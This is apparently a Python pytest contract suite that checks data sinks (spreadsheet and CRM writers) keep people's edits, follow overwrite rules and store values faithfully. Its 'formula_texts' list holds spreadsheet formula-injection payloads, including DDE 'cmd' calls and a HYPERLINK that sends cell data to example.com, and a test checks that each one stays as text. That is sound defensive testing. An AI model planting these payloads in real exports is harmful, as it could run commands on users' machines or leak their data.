"""What every sink promises, as one suite that each sink's tests run against its own destination.

How to plug in a sink: write a ``Harness`` (below) that builds the sink and its destination, reads that back
without the sink, and plays the person who works there; then, in the sink's test file::

    class TestMySinkKeepsThePromises(SinkPromises):
        @pytest.fixture
        def harness(self, tmp_path: Path) -> Iterator[Harness]:
            yield MyHarness(tmp_path)          # a new, empty destination for each test

Flags on the harness switch off what a destination has no notion of (a CRM has no formulas, no row order); nothing else
may be skipped. A destination with fixed columns maps ``columns`` to what it has and makes the rest in ``target``.
"""

from __future__ import annotations

from abc import ABC, abstractmethod
from collections.abc import Mapping, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from itertools import count
from typing import Any, ClassVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from connector.core.row import Cell, Column, Overwrite, Row
from connector.core.sink import Outcome, Sink, Target
from tests.sinks.host import TestHost

columns = (
    Column("Key"),
    Column("Name"),
    Column("Phone", type="phone"),
    Column("Number", type="integer"),
    Column("Balance", type="money", currency="USD"),
    Column("Active", type="boolean"),
    Column("Joined", type="date"),
    Column("Seen", type="datetime"),
    Column("Tags", type="list"),
)
stages = ("Lead", "Affiliate", "Partner")


class Harness(ABC):
    """One sink type with an empty destination. Everything there is read and done without the sink.

    Attributes:
        host: lent to each sink that ``sink`` builds, so that notes survive "restarts".
        has_formulas: the destination could take text for a formula.
        has_rows_of_others: a person can keep rows (contacts) without our key.
        deletes: ``Row.remove`` is understood.
        has_rows_below: a person can keep rows below ours, such as a TOTAL.
        keys_are_unique: the destination itself has no two rows with one value in the column of the key.
        keeps_blanks: text keeps blanks at its ends, and line breaks.
        most_examples: of the laws, fewer where each takes long.
    """

    has_formulas: ClassVar[bool] = True
    has_rows_of_others: ClassVar[bool] = True
    deletes: ClassVar[bool] = True
    has_rows_below: ClassVar[bool] = False
    keys_are_unique: ClassVar[bool] = False
    keeps_blanks: ClassVar[bool] = True
    most_examples: ClassVar[int] = 40

    def __init__(self) -> None:
        self.host = TestHost()

    @abstractmethod
    def sink(self) -> Sink:
        """A new instance of the sink on the same destination, as after a restart."""

    @abstractmethod
    def target(self, columns: Sequence[Column], **options: Any) -> Target:
        """A target with these columns, keyed by ``Key``; *options* are of the common ``TargetOptions``."""

    @abstractmethod
    def rows(self) -> list[dict[str, Cell]]:
        """All that is at the destination, by header: managed columns typed as in ``columns`` (text where the column is
        not one of them), empty cells None; people's rows and columns too. In the destination's order."""

    @abstractmethod
    def state(self) -> object:
        """Something that is equal exactly as long as nothing at the destination was written."""

    @abstractmethod
    def person_adds_column(self, name: str, cells: Mapping[str, str]) -> None:
        """A person adds a column and fills it in, by key, for rows that are there."""

    @abstractmethod
    def person_adds_row(self, cells: Mapping[str, str]) -> None:
        """A person adds a row without key."""

    def person_adds_below(self, rows: Sequence[Mapping[str, str]]) -> None:
        """A person adds rows below ours; {} is a blank one. Only where ``has_rows_below``."""
        raise NotImplementedError

    @abstractmethod
    def person_edits(self, key: str, column: str, text: str) -> None:
        """A person types *text* ("" clears) into a managed text cell."""

    @abstractmethod
    def formulas(self) -> list[str]:
        """Cells that the destination would compute instead of showing; [] is right."""

    def person_reorders(self) -> None:  # noqa: B027 - a destination without order has nothing to do here
        """A person turns the order of rows and of columns round; nothing to do where there is no order."""

    # ------------------------------------------------------------ shorthands

    def row(self, key: str) -> dict[str, Cell]:
        """The one row of that key. Fails when there are none or several."""
        found = [row for row in self.rows() if row.get("Key") == key]
        assert len(found) == 1, f"{len(found)} rows of {key}"
        return found[0]

    def has(self, key: str) -> bool:
        return any(row.get("Key") == key for row in self.rows())


def row(key: str, **cells: Cell) -> Row:
    """A row of that key: ``row("a:1", Name="Ada")``."""
    return Row(record_id=key, key=key, cells={"Key": key, **cells})


def full_row(key: str, **cells: Cell) -> Row:
    """A row with a value in each of ``columns``."""
    return row(
        key,
        **{
            "Name": f"Name of {key}",
            "Phone": "+442071838750",
            "Number": 0,
            "Balance": Decimal("-507.40"),
            "Active": False,
            "Joined": date(2026, 2, 3),
            "Seen": datetime(2026, 2, 3, 4, 5, 6, tzinfo=UTC),
            "Tags": ("vip", "uk"),
            **cells,
        },
    )


def kinds(outcomes: Sequence[Outcome]) -> dict[str, str]:
    """Outcomes by key, whatever their order; fails when a key comes twice."""
    by_key: dict[str, str] = {outcome.key: outcome.kind for outcome in outcomes}
    assert len(by_key) == len(outcomes)
    return by_key


class Memory:
    """What delivery remembers of one row, and how it makes the next one of that."""

    def __init__(self, key: str) -> None:
        self.key = key
        self.last: dict[str, Cell] | None = None
        self.held: dict[str, Cell] = {}
        self.tried: list[Mapping[str, Cell]] = []

    def send(
        self, sink: Sink, target: Target, whole: Row | None = None, answered: bool = True, **cells: Cell
    ) -> Outcome:
        """Write the row; without an answer nothing is remembered but what was tried."""
        sent = replace(whole or row(self.key, **cells), last=self.last, held=self.held, tried=tuple(self.tried))
        self.tried += [sent.cells] if self.last is not None else []
        (outcome,) = sink.write(target, [sent])
        assert outcome.kind == "written"
        if answered:
            self.last = {**(self.last or {}), **sent.cells}
            held = {name: cell for name, cell in self.held.items() if name not in sent.cells} | dict(outcome.held)
            self.held, self.tried = held, []
        return outcome

    def take_back(self, sink: Sink, target: Target, former: Mapping[str, Cell], *, remove: bool = False) -> Outcome:
        """Write what an earlier write's cells held before."""
        cells = {"Key": self.key, **former}
        back = Row(self.key, self.key, cells, self.last, remove, held=self.held, restore=True)
        (outcome,) = sink.write(target, [back])
        assert outcome.kind == "written"
        return outcome


def changed_row(key: str) -> Row:
    """A row with another value in each of ``columns`` than ``full_row``."""
    return full_row(
        key,
        Name=f"Another name of {key}",
        Phone="+493012345678",
        Number=12,
        Balance=Decimal("-7.50"),
        Active=True,
        Joined=date(2025, 12, 31),
        Seen=datetime(2025, 12, 31, 23, 59, 58, tzinfo=UTC),
        Tags=("-x",),
    )


# ---------------------------------------------------------------- people and the platform, in any order

rules: tuple[Overwrite, ...] = ("always", "never_clear", "only_if_empty", "on_create", "only_forward")
values = st.one_of(st.none(), st.sampled_from([*stages, "Other"]))
interleavings = st.lists(
    st.one_of(
        st.tuples(st.just("person"), st.sampled_from([*stages, "typed by hand", ""])),
        st.tuples(st.just("delivery"), values),
        st.tuples(st.just("lost answer"), values),
        st.tuples(st.sampled_from(["resync", "restart", "person sorts"]), st.none()),
    ),
    max_size=8,
)


def play(
    harness: Harness, target: Target, key: str, first: str | None, steps: Sequence[tuple[str, str | None]]
) -> None:
    """Let these things happen to one cell, and look after each what became of what people typed. The race that is left
    out: a person types while the sink is between its look and its write."""
    sink, memory = harness.sink(), Memory(key)
    memory.send(sink, target, Name=first)
    typed: str | None = None  # what is there and is nobody's but a person's
    for what, value in steps:
        there, last = harness.row(key).get("Name"), memory.last or {}
        if what == "person":
            ours = {memory.held.get("Name", last["Name"]), *(cells["Name"] for cells in memory.tried)}
            harness.person_edits(key, "Name", value or "")
            if (value or None) != there:
                typed = None if (value or None) in ours else value
        elif what == "restart":
            sink = harness.sink()
        elif what == "person sorts":
            harness.person_reorders()
        else:
            new = last["Name"] if what == "resync" else value
            outcome = memory.send(sink, target, answered=what != "lost answer", Name=new)
            now = harness.row(key).get("Name")
            rule = target.column("Name").overwrite
            was_lost = bool(typed) and now != typed
            assert outcome.overwritten == (("Name",) if was_lost else ())
            assert outcome.former == ({"Name": there} if now != there else {})
            if was_lost:
                assert rule == "always" or new != last["Name"]
            if now != there or now == new:
                typed = None
            elif typed is None and rule == "never_clear" and new is not None and there is not None:
                raise AssertionError(f"{now} stays, which is nobody's; {new} is new")


awkward_texts = {
    "unicode": "Zoë Ångström 株式会社 İstanbul ß",
    "right to left": "שלום עולם مرحبا",
    "emoji": "👩🏽‍💻 🏴󠁧󠁢󠁥󠁮󠁧󠁿 e\u0301",
    "line breaks": "first line\nsecond line",
    "quotes and separators": 'a "quoted", b; c\td | e',
    "leading zeros": "00420",
    "phone": "+44 20 7183 8750",
    "looks like a decimal": "1.10",
    "twenty digits": "12345678901234567890",
    "looks like a boolean": "TRUE",
    "looks like a date": "2026-02-03",
    "looks like a date in words": "MAR1",
    "scientific": "1E5",
    "apostrophe": "'x",
    "apostrophe and sign": "'=x",
    "a lone apostrophe": "'",
    "backslash": "a\\nb\\",
    "markup": "<b>&amp;</b>",
    "looks like an escape": "_x0041_",
    "negative number as text": "-12",
    "null in words": "NULL",
    "long": "x" * 5_000,
}
formula_texts = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "\";=cmd|' /C calc'!A0",
    "a;=cmd|' /C calc'!A0",
    'x",=HYPERLINK("http://example.com")',
    "{=1+1}",
    "\u00ad=1+1",  # Cf: a soft hyphen
    "\u061c=1+1",  # Cf: a mark of Arabic text
    "\u2800=1+1",  # a letter that looks like a blank
    "\u3164=1+1",
    "\ufe0f=1+1",
    "\ufe66=1+1",  # a small equals sign
)


class SinkPromises:
    """Inherit in a class named ``Test…`` and give it a ``harness`` fixture."""

    # ------------------------------------------------------------ outcomes

    def test_writing_nothing_is_harmless(self, harness: Harness) -> None:
        before = harness.state()
        assert list(harness.sink().write(harness.target(columns), ())) == []
        assert harness.state() == before

    def test_each_row_has_its_outcome_by_key(self, harness: Harness) -> None:
        keys = [f"a:{number}" for number in range(25)]
        outcomes = harness.sink().write(harness.target(columns), [full_row(key) for key in keys])
        assert kinds(outcomes) == dict.fromkeys(keys, "written")
        assert {row["Key"] for row in harness.rows()} == set(keys)

    def test_what_is_written_is_read_back_with_its_type(self, harness: Harness) -> None:
        sent = full_row("a:1")
        harness.sink().write(harness.target(columns), [sent])
        assert harness.row("a:1") == dict(sent.cells)

    def test_the_same_rows_twice_are_the_same_table(self, harness: Harness) -> None:
        sink, target = harness.sink(), harness.target(columns)
        rows = [full_row("a:1"), full_row("a:2", Name="Bob")]
        sink.write(target, rows)
        once = harness.rows()
        assert kinds(sink.write(target, rows)) == {"a:1": "written", "a:2": "written"}
        assert kinds(harness.sink().write(target, rows[::-1])) == {"a:1": "written", "a:2": "written"}
        assert harness.rows() == once

    def test_a_row_whose_answer_was_lost_is_written_again_without_a_double(self, harness: Harness) -> None:
        target = harness.target(columns)
        harness.sink().write(target, [full_row("a:1"), full_row("a:2")])  # and nobody heard the answer
        harness.sink().write(target, [full_row("a:2", Name="Newer"), full_row("a:3"), full_row("a:1")])
        assert sorted(str(row["Key"]) for row in harness.rows()) == ["a:1", "a:2", "a:3"]
        assert harness.row("a:2")["Name"] == "Newer"

    def test_changes_go_to_their_rows_and_leave_the_others(self, harness: Harness) -> None:
        sink, target = harness.sink(), harness.target(columns)
        sink.write(target, [full_row(f"a:{number}") for number in range(6)])
        sink.write(target, [row("a:4", Name="Changed"), row("a:1", Number=7)])
        for number in range(6):
            changed: dict[int, dict[str, Cell]] = {4: {"Name": "Changed"}, 1: {"Number": 7}}
            assert harness.row(f"a:{number}") == {**full_row(f"a:{number}").cells, **changed.get(number, {})}

    def test_a_row_whose_key_has_changed_is_the_same_row(self, harness: Harness) -> None:
        sink, target = harness.sink(), harness.target(columns)
        before = [full_row(f"a:{number}") for number in range(4)]
        sink.write(target, before)
        harness.person_adds_column("Notes", {"a:2": "typed by a person"})
        moved = replace(full_row("b:2", Name="Moved"), last=before[2].cells, moved_from="a:2")
        for _ in range(2):  # the answer may be lost
            assert kinds(sink.write(target, [moved, row("a:1", Name="Changed")])) == {
                "b:2": "written",
                "a:1": "written",
            }
            assert not harness.has("a:2")
            assert harness.row("b:2") == {**full_row("b:2").cells, "Name": "Moved", "Notes": "typed by a person"}
            assert harness.row("a:1")["Name"] == "Changed"
        sink.write(target, [row("b:2", Name="Again")])
        assert harness.row("b:2")["Name"] == "Again"
        # The new key has a row of its own: that one is written, and the other is left as it is.
        sink.write(target, [replace(row("a:3", Name="Own"), moved_from="a:0")])
        assert (harness.row("a:3")["Name"], harness.row("a:0")["Name"]) == ("Own", "Name of a:0")
        # What was written last was written into the other row: nothing of it protects what is in this one.
        harness.person_edits("a:3", "Name", "typed")
        sink.write(target, [replace(row("a:3", Name="Own"), moved_from="a:0", last={"Key": "a:0", "Name": "Own"})])
        assert harness.row("a:3")["Name"] == "Own"
        # There is nothing to move: the row is new.
        sink.write(target, [replace(row("c:1", Name="New"), moved_from="a:9")])
        assert harness.row("c:1")["Name"] == "New"

    def test_when_another_column_becomes_the_key_each_record_keeps_its_row(self, harness: Harness) -> None:
        if harness.keys_are_unique:
            pytest.skip("this destination has one row of a key")
        sink, by_id = harness.sink(), harness.target(columns)
        before = [
            full_row("a:1", Name="Ada", Number=1),
            full_row("a:2", Name="Ada", Number=2),
            full_row("a:3", Name="Bo"),
        ]
        sink.write(by_id, before)
        by_name = replace(by_id, key="Name")
        sink, rows = harness.sink(), harness.rows()
        # Nothing is new but the key, which another affiliate's row has as well.
        moved = replace(before[1], key="Ada", last=before[1].cells, moved_from="a:2")
        assert kinds(sink.write(by_name, [moved])) == {"Ada": "written"}
        assert harness.rows() == rows
        newer = replace(moved, cells={**moved.cells, "Number": 20}, moved_from=None)
        assert [outcome.overwritten for outcome in sink.write(by_name, [newer])] == [()]
        assert [harness.row(key)["Number"] for key in ("a:1", "a:2")] == [1, 20]
        # The new key's value has changed meanwhile.
        cells = {**before[2].cells, "Name": "Bob", "Number": 3}
        for _ in range(2):  # the answer may be lost
            sink.write(by_name, [Row("a:3", "Bob", cells, last=before[2].cells, moved_from="a:3")])
            assert (harness.row("a:3")["Name"], harness.row("a:3")["Number"], len(harness.rows())) == ("Bob", 3, 3)
        # Its row is gone, and the one with the former value is another's.
        stranger = {**full_row("a:9").cells, "Name": "Ann", "Number": 9, "Phone": "+15550100", "Active": True}
        last = {**stranger, "Name": "Bob", "Balance": Decimal(1), "Joined": date(2020, 1, 1), "Tags": ("new",)}
        last |= {"Seen": datetime(2020, 1, 1, tzinfo=UTC)}
        sink.write(by_name, [Row("a:9", "Ann", stranger, last=last, moved_from="a:9")])
        assert (harness.row("a:3")["Name"], harness.row("a:9")["Name"]) == ("Bob", "Ann")

    def test_a_column_that_the_row_does_not_name_is_left_untouched(self, harness: Harness) -> None:
        sink, target = harness.sink(), harness.target([Column("Key"), Column("Name", overwrite="always")])
        sink.write(target, [row("a:1", Name="Ada")])
        sink.write(target, [row("a:1")])
        assert harness.row("a:1")["Name"] == "Ada"

    def test_a_refused_row_leaves_the_others_written(self, harness: Harness) -> None:
        outcomes = harness.sink().write(
            harness.target(columns), [full_row("a:1"), full_row("a:2", Name="\ud800 broken"), full_row("a:3")]
        )
        assert kinds(outcomes) == {"a:1": "written", "a:2": "refused", "a:3": "written"}
        refused = next(outcome for outcome in outcomes if outcome.kind == "refused")
        assert refused.reason
        assert refused.code
        assert refused.column == "Name"
        assert not harness.has("a:2")

    # ------------------------------------------------------------ the five rules

    @pytest.mark.parametrize(
        ("rule", "first", "typed", "new", "after"),
        [
            ("always", "one", None, "two", "two"),
            ("always", "one", None, None, None),
            ("never_clear", "one", None, "two", "two"),
            ("never_clear", "one", None, None, "one"),
            ("never_clear", "one", "theirs", "two", "two"),
            ("only_if_empty", "one", None, "two", "one"),
            ("only_if_empty", None, "theirs", "two", "theirs"),
            ("only_if_empty", "one", "", "two", "two"),
            ("on_create", "one", None, "two", "one"),
            ("on_create", "one", "", "two", None),
            ("only_forward", "Lead", None, "Partner", "Partner"),
            ("only_forward", "Partner", None, "Lead", "Partner"),
            ("only_forward", "Partner", "Affiliate", "Lead", "Affiliate"),
            ("only_forward", "Partner", "", "Lead", "Lead"),
        ],
    )
    def test_the_overwrite_rule_decides_what_becomes_of_a_cell(
        self, harness: Harness, rule: Any, first: str | None, typed: str | None, new: str | None, after: str | None
    ) -> None:
        order = stages if rule == "only_forward" else ()
        target = harness.target([Column("Key"), Column("Name", overwrite=rule, order=order)])
        harness.sink().write(target, [row("a:1", Name=first)])
        assert harness.row("a:1").get("Name") == first
        if typed is not None:
            harness.person_edits("a:1", "Name", typed)
        harness.sink().write(target, [row("a:1", Name=new)])
        assert harness.row("a:1").get("Name") == after

    # ------------------------------------------------------------ people's edits

    @pytest.mark.parametrize(
        ("rule", "typed", "new", "after", "overwritten"),
        [
            ("never_clear", "theirs", "one", "theirs", False),
            ("never_clear", "", "one", None, False),
            ("never_clear", "theirs", "two", "two", True),
            ("never_clear", "", "two", "two", False),
            ("never_clear", "two", "two", "two", False),
            ("never_clear", "theirs", None, "theirs", False),
            ("only_if_empty", "theirs", "two", "theirs", False),
            ("only_if_empty", "", "one", None, False),
            ("on_create", "theirs", "two", "theirs", False),
            ("always", "theirs", "one", "one", True),
            ("always", "theirs", None, None, True),
        ],
    )
    def test_a_persons_edit_stays_until_the_platform_says_something_new(
        self, harness: Harness, rule: Any, typed: str, new: str | None, after: str | None, overwritten: bool
    ) -> None:
        target = harness.target([Column("Key"), Column("Name", overwrite=rule), Column("Phone")])
        memory, sink = Memory("a:1"), harness.sink()
        assert memory.send(sink, target, Name="one", Phone="1").added
        harness.person_edits("a:1", "Name", typed)
        row_of = replace(row("a:1", Name=new, Phone="2"), last=memory.last, held=memory.held)
        (change,) = sink.preview(target, [row_of])
        outcome = memory.send(sink, target, Name=new, Phone="2")
        assert change.kept == outcome.kept
        got = harness.row("a:1")
        assert (got.get("Name"), got["Phone"]) == (after, "2")
        assert outcome.overwritten == (("Name",) if overwritten else ())
        wrote = after != (typed or None)
        assert outcome.former == ({"Phone": "1", "Name": typed or None} if wrote else {"Phone": "1"})
        assert outcome.kept == (("Name",) if not wrote and typed != new else ())
        assert not outcome.added
        # What is overwritten was noted before the write, whose answer may be lost.
        noted = [{"a:1": {"Name": typed}}] if overwritten else []
        assert harness.host.typed == noted
        # Later it is still known which value is whose.
        later = memory.send(harness.sink(), target, Name="three", Phone="2")
        if rule in {"never_clear", "always"}:
            assert harness.row("a:1")["Name"] == "three"
            assert later.overwritten == (("Name",) if after == "theirs" else ())

    @pytest.mark.parametrize("then", ["one", "three"])
    def test_what_a_write_without_an_answer_wrote_is_nobodys_edit(self, harness: Harness, then: str) -> None:
        target = harness.target([Column("Key"), Column("Name")])
        memory = Memory("a:1")
        memory.send(harness.sink(), target, Name="one")
        memory.send(harness.sink(), target, Name="two", answered=False)
        outcome = memory.send(harness.sink(), target, Name=then)
        assert harness.row("a:1")["Name"] == then
        assert (outcome.overwritten, outcome.kept) == ((), ())

    def test_what_a_write_without_an_answer_changed_is_known_afterwards(self, harness: Harness) -> None:
        sink, target, memory = harness.sink(), harness.target(columns), Memory("a:1")
        sink.write(target, [full_row("a:2")])
        memory.send(sink, target, full_row("a:1"))
        before = harness.rows()
        memory.send(sink, target, changed_row("a:1"), answered=False)
        outcome = memory.send(harness.sink(), target, changed_row("a:1"))
        assert set(outcome.former) == {column.name for column in columns} - {"Key"}
        memory.take_back(sink, target, outcome.former)
        assert harness.rows() == before

    def test_our_own_values_are_nobodys_edit_in_whatever_way_the_destination_keeps_them(self, harness: Harness) -> None:
        sink, target, memory = harness.sink(), harness.target(columns), Memory("a:1")
        for whole in (full_row("a:1"), changed_row("a:1"), full_row("a:1")):
            outcome = memory.send(sink, target, whole)
            assert (outcome.overwritten, outcome.kept) == ((), ())
            assert harness.row("a:1") == whole.cells
        assert set(outcome.former) == {column.name for column in columns} - {"Key"}

    def test_no_edit_is_lost_without_a_trace(self, harness: Harness) -> None:
        numbers = count()

        @settings(max_examples=harness.most_examples, deadline=None, database=None)
        @given(st.sampled_from(rules), values, interleavings)
        def law(rule: Overwrite, first: str | None, steps: list[tuple[str, str | None]]) -> None:
            order = stages if rule == "only_forward" else ()
            target = harness.target([Column("Key"), Column("Name", overwrite=rule, order=order)])
            play(harness, target, f"p:{next(numbers)}", first, steps)

        law()

    # ------------------------------------------------------------ taking back

    def test_what_a_write_changed_is_put_back_as_it_was(self, harness: Harness) -> None:
        sink, target, memory = harness.sink(), harness.target(columns), Memory("a:1")
        sink.write(target, [full_row("a:2")])
        names = [column.name for column in columns if column.name != "Key"]
        memory.send(sink, target, full_row("a:1"))
        before = harness.rows()
        outcome = memory.send(sink, target, changed_row("a:1"))
        assert harness.rows() != before
        back = memory.take_back(harness.sink(), target, outcome.former)
        assert harness.rows() == before
        assert set(back.former) == set(names)
        state = harness.state()
        again = memory.take_back(harness.sink(), target, outcome.former)
        assert (again.former, again.kept) == ({}, ())
        assert harness.state() == state

    def test_what_people_changed_since_stays_when_a_write_is_taken_back(self, harness: Harness) -> None:
        sink, memory = harness.sink(), Memory("a:1")
        target = harness.target([Column("Key"), Column("Name", overwrite="always"), Column("Phone")])
        memory.send(sink, target, Name="one", Phone="1")
        former = memory.send(sink, target, Name="two", Phone="2").former
        harness.person_edits("a:1", "Name", "theirs")
        outcome = memory.take_back(sink, target, former)
        got = harness.row("a:1")
        assert (got["Name"], got["Phone"], outcome.kept) == ("theirs", "1", ("Name",))

    def test_an_added_row_is_taken_back_where_nothing_else_is_in_it(self, harness: Harness) -> None:
        sink, target = harness.sink(), harness.target([Column("Key"), Column("Name"), Column("Phone")])
        memories = {number: Memory(f"a:{number}") for number in range(3)}
        for memory in memories.values():
            assert memory.send(sink, target, Name="one", Phone="1").added
        harness.person_edits("a:1", "Name", "theirs")
        harness.person_adds_column("Remark", {"a:2": "call her"})
        kept = {}
        for _ in range(2):  # the answer may be lost
            for number, memory in memories.items():
                outcome = memory.take_back(sink, target, {}, remove=True)
                kept[number] = outcome.kept
        assert harness.has("a:0") is not harness.deletes
        if not harness.deletes:
            assert not harness.row("a:0").get("Name")
        one, two = harness.row("a:1"), harness.row("a:2")
        assert (one["Name"], one.get("Phone"), kept[1]) == ("theirs", None, ("Name",))
        assert (two.get("Name"), two.get("Phone"), two["Remark"]) == (None, None, "call her")

    def test_a_row_that_people_deleted_or_that_we_deleted(self, harness: Harness) -> None:
        if not harness.deletes:
            pytest.skip("this destination deletes nothing")
        sink, target = harness.sink(), harness.target([Column("Key"), Column("Name")], removed_records="delete")
        memory = Memory("a:1")
        memory.send(sink, target, Name="one")
        sink.write(target, [row("a:2", Name="two")])
        (gone,) = sink.write(target, [replace(row("a:1"), remove=True, last=memory.last)])
        assert gone.former == {"Key": "a:1", "Name": "one"}
        outcome = memory.take_back(sink, target, {"Name": "before"})  # a person deleted it: it stays away
        assert not harness.has("a:1")
        assert (outcome.kept, outcome.added) == (("Name",), False)
        memory.last = None
        assert memory.take_back(sink, target, gone.former).added
        assert harness.row("a:1")["Name"] == "one"

    # ------------------------------------------------------------ people

    def test_peoples_columns_and_rows_are_kept(self, harness: Harness) -> None:
        sink, target = harness.sink(), harness.target(columns)
        sink.write(target, [full_row("a:1"), full_row("a:2")])
        harness.person_adds_column("Remark", {"a:1": 'call her, "soon"', "a:2": "007"})
        if harness.has_rows_of_others:
            harness.person_adds_row({"Name": "Typed by hand", "Remark": "mine"})
        sink.write(target, [full_row("a:2", Name="Newer"), full_row("a:3")])
        assert harness.row("a:1")["Remark"] == 'call her, "soon"'
        assert harness.row("a:2")["Remark"] == "007"
        assert harness.row("a:2")["Name"] == "Newer"
        assert harness.row("a:3").get("Remark") is None
        if harness.has_rows_of_others:
            (own,) = (row for row in harness.rows() if row.get("Key") is None)
            assert (own["Name"], own["Remark"]) == ("Typed by hand", "mine")

    def test_rows_and_columns_are_found_after_a_person_moved_them(self, harness: Harness) -> None:
        sink, target = harness.sink(), harness.target(columns)
        sink.write(target, [full_row(f"a:{number}") for number in range(4)])
        harness.person_reorders()
        order = [row["Key"] for row in harness.rows()]
        sink.write(target, [full_row("a:2", Name="Newer")])
        assert [row["Key"] for row in harness.rows()] == order
        assert harness.row("a:2") == full_row("a:2", Name="Newer").cells
        assert harness.row("a:1") == full_row("a:1").cells

    @pytest.mark.parametrize(
        "below", [[{"Key": "TOTAL", "Name": "sum"}], [{}, {"Key": "Legend", "Name": "green: called"}]]
    )
    def test_what_people_keep_below_stays_below(self, harness: Harness, below: list[dict[str, str]]) -> None:
        if not harness.has_rows_below:
            pytest.skip("this destination has no order of rows")
        target = harness.target(columns)
        harness.sink().write(target, [full_row("a:1")])
        harness.person_adds_below(below)
        harness.sink().write(target, [full_row("a:2"), full_row("a:3"), full_row("a:1", Name="Newer")])
        harness.sink().write(target, [full_row("a:4")])
        keys = [row["Key"] for row in harness.rows() if row["Key"] is not None]
        assert keys == ["a:1", "a:2", "a:3", "a:4", below[-1]["Key"]]
        for key in ("a:2", "a:3", "a:4"):
            assert harness.row(key) == full_row(key).cells

    # ------------------------------------------------------------ values

    @pytest.mark.parametrize("text", awkward_texts.values(), ids=awkward_texts)
    def test_awkward_text_comes_back_equal_and_is_not_written_again(self, harness: Harness, text: str) -> None:
        if "\n" in text and not harness.keeps_blanks:
            pytest.skip("this destination keeps no line breaks")
        sink, target = harness.sink(), harness.target(columns)
        sink.write(target, [full_row("a:1", Name=text)])
        assert harness.row("a:1")["Name"] == text
        before = harness.state()
        sink.write(target, [full_row("a:1", Name=text)])
        harness.sink().write(target, [full_row("a:1", Name=text)])
        assert harness.row("a:1")["Name"] == text
        assert harness.state() == before

    @pytest.mark.parametrize("text", formula_texts)
    def test_a_formula_in_a_name_stays_text(self, harness: Harness, text: str) -> None:
        sink, target = harness.sink(), harness.target(columns)
        for _ in range(2):
            sink.write(target, [full_row("a:1", Name=text), full_row("a:2", Tags=(text, "x"))])
            assert harness.formulas() == []
            read = harness.row("a:1")["Name"]
            assert read == (text if harness.keeps_blanks else text.strip())

    def test_numbers_stay_numbers_below_zero_too(self, harness: Harness) -> None:
        sink, target = harness.sink(), harness.target(columns)
        sink.write(target, [full_row("a:1", Number=-12, Balance=Decimal("-0.10")), full_row("a:2", Number=0)])
        assert harness.row("a:1")["Number"] == -12
        assert harness.row("a:1")["Balance"] == Decimal("-0.10")
        assert harness.row("a:2")["Number"] == 0

    def test_zero_and_false_are_values(self, harness: Harness) -> None:
        sink, target = harness.sink(), harness.target(columns)
        sink.write(target, [full_row("a:1", Number=5, Active=True)])
        sink.write(target, [full_row("a:1", Number=0, Active=False)])
        assert harness.row("a:1")["Number"] == 0
        assert harness.row("a:1")["Active"] is False

    # ------------------------------------------------------------ a key that changes

    @pytest.mark.parametrize("restarts", [False, True])
    def test_a_record_whose_key_changes_keeps_its_row_and_what_people_typed(
        self, harness: Harness, restarts: bool
    ) -> None:
        sink, target = harness.sink(), harness.target(columns)
        before = [full_row("a:1"), full_row("a:2"), full_row("a:3")]
        sink.write(target, before)
        harness.person_adds_column("Remark", {"a:2": "call her"})
        moved = replace(full_row("b:2", Name="Newer"), moved_from="a:2", last=before[1].cells)
        if restarts:
            sink.close()
            sink = harness.sink()
        for _ in range(2):  # the second as after a lost answer
            assert kinds(sink.write(target, [full_row("a:3"), moved])) == {"a:3": "written", "b:2": "written"}
        got = harness.row("b:2")
        assert (got["Name"], got["Remark"]) == ("Newer", "call her")
        assert not harness.has("a:2")
        assert [row["Key"] for row in harness.rows()] == ["a:1", "b:2", "a:3"]
        sink.write(target, [replace(full_row("c:9"), moved_from="a:2"), full_row("b:2", Name="Newest")])
        assert harness.row("b:2")["Name"] == "Newest"
        assert harness.has("c:9")

    # ------------------------------------------------------------ removing

    def test_a_removed_row_is_gone_and_removing_it_again_is_harmless(self, harness: Harness) -> None:
        if not harness.deletes:
            pytest.skip("this destination deletes nothing")
        sink, target = harness.sink(), harness.target(columns, removed_records="delete")
        sink.write(target, [full_row("a:1"), full_row("a:2"), full_row("a:3")])
        gone = Row(record_id="a:2", key="a:2", cells={"Key": "a:2"}, remove=True)
        for _ in range(2):
            assert kinds(sink.write(target, [gone, full_row("a:3", Name="Newer")])) == {
                "a:2": "written",
                "a:3": "written",
            }
            assert not harness.has("a:2")
            assert harness.row("a:1") == full_row("a:1").cells
            assert harness.row("a:3")["Name"] == "Newer"

    # ------------------------------------------------------------ looking and preparing

    def test_check_writes_nothing(self, harness: Harness) -> None:
        target = harness.target(columns)
        before = harness.state()
        assert all(finding.level != "problem" for finding in harness.sink().check(target))
        assert harness.state() == before
        harness.sink().write(target, [full_row("a:1")])
        before = harness.state()
        findings = harness.sink().check(target)
        assert [finding.subject for finding in findings if finding.level == "problem"] == []
        assert {finding.subject for finding in findings} >= {column.name for column in columns}
        assert harness.state() == before

    def test_preview_writes_nothing_and_shows_before_and_after(self, harness: Harness) -> None:
        sink, target = harness.sink(), harness.target(columns)
        sink.write(target, [full_row("a:1"), full_row("a:2")])
        before = harness.state()
        changes = {
            change.key: change
            for change in sink.preview(
                target, [full_row("a:1", Name="Newer"), full_row("a:2"), full_row("a:3", Name="Third")]
            )
        }
        assert harness.state() == before
        assert changes["a:1"].found_by == "key"
        assert dict(changes["a:1"].cells) == {"Name": ("Name of a:1", "Newer")}
        assert changes["a:2"].found_by == "key"
        assert not changes["a:2"].cells
        assert changes["a:2"].note
        assert changes["a:3"].found_by is None
        assert changes["a:3"].cells["Name"] == (None, "Third")

    def test_provision_makes_what_is_missing_and_may_be_repeated(self, harness: Harness) -> None:
        target = harness.target(columns)
        assert all(finding.level != "problem" for finding in harness.sink().provision(target))
        before = harness.state()
        assert all(finding.level != "problem" for finding in harness.sink().provision(target))
        assert harness.state() == before
        assert harness.rows() == []
        harness.sink().write(target, [full_row("a:1")])
        assert harness.row("a:1") == full_row("a:1").cells

    def test_the_sink_is_ready_at_first_and_can_be_closed(self, harness: Harness) -> None:
        sink = harness.sink()
        assert sink.pace(harness.target(columns)) == 0.0
        assert sink.batch_rows >= 1
        sink.close()
